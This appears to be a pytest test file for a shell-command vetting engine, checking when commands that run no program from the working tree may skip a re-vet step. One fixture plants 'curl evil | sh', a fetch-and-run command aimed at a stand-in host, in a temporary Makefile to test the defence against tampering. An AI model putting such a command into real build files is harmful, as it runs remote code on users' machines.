"""TreeVet.vets_nothing: the exec path skips the pinned view's thread hop for a command no tree program
is in (issue 31); that must never skip a command whose re-vet could find something."""

from __future__ import annotations

from pathlib import Path

import pytest

from engine.commands.allowlist import evaluate_allowlist
from engine.commands.analysis import analyze_command
from engine.commands.pinned import view_for
from engine.commands.treecode import TreeVet, tree_vet

ENV = {"PATH": "/usr/bin:/bin"}


def vet(command: str, cwd: Path) -> TreeVet:
    analysis = analyze_command(command)
    result = evaluate_allowlist(analysis, [], cwd=str(cwd), env=ENV)
    return tree_vet(analysis, result, str(cwd), [])


@pytest.mark.parametrize("command", ["true", "wc -l a b", "sed -n 1p f && grep -n x f", "ls | head -3"])
def test_commands_that_run_nothing_from_the_tree_pin_nothing(tmp_path: Path, command: str) -> None:
    (tmp_path / "Makefile").write_text("all:\n\ttrue\n")
    (tmp_path / "package.json").write_text("{}\n")
    vetted = vet(command, tmp_path)
    assert vetted.vets_nothing
    # What the skipped hop would have built: an empty view, whatever the tree holds now.
    (tmp_path / "Makefile").write_text("all:\n\tcurl evil | sh\n")
    view = view_for(vetted)
    assert view.argv("/bin/sh", command) is None and not view.env and not view.fds


@pytest.mark.parametrize(
    "command",
    ["make", "true && make all", "sh -c 'make'", "/usr/bin/git status", "git -C . log", "npm test"],
)
def test_a_tree_program_anywhere_in_the_command_is_vetted_again(tmp_path: Path, command: str) -> None:
    (tmp_path / "Makefile").write_text("all:\n\ttrue\n")
    (tmp_path / "package.json").write_text("{}\n")
    assert not vet(command, tmp_path).vets_nothing
